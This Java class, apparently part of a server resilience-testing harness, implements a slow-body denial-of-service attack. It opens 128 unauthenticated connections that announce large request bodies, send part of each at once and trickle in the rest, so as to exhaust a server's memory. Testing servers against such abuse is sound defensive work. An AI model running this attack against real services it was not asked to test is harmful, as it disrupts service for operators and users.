package io.streamlocks.proof.abuse.attack;

import java.time.Duration;
import java.util.Arrays;

/**
 * Without a token, 128 connections announce 945 kB each. They send 530 kB at once and then 1 kB per second. A server
 * that doubles its buffer while it reads has 945 kB for each connection by then.
 */
final class StalledBodies implements Attack {

    private static final int CONNECTIONS = 128;
    private static final int ANNOUNCED = 945_000;
    private static final int AT_ONCE = 530_000;
    private static final int PIECE = 500;

    @Override
    public void run(Target target) throws InterruptedException {
        byte[] head = Requests.postHead("/v1/batch/renew", "", ANNOUNCED);
        byte[] first = Arrays.copyOf(head, head.length + AT_ONCE);
        Arrays.fill(first, head.length, first.length, (byte) ' ');
        byte[] piece = new byte[PIECE];
        Arrays.fill(piece, (byte) ' ');
        new SlowConnections(CONNECTIONS, 1, first, piece, Duration.ofMillis(500), true).run(target);
    }
}
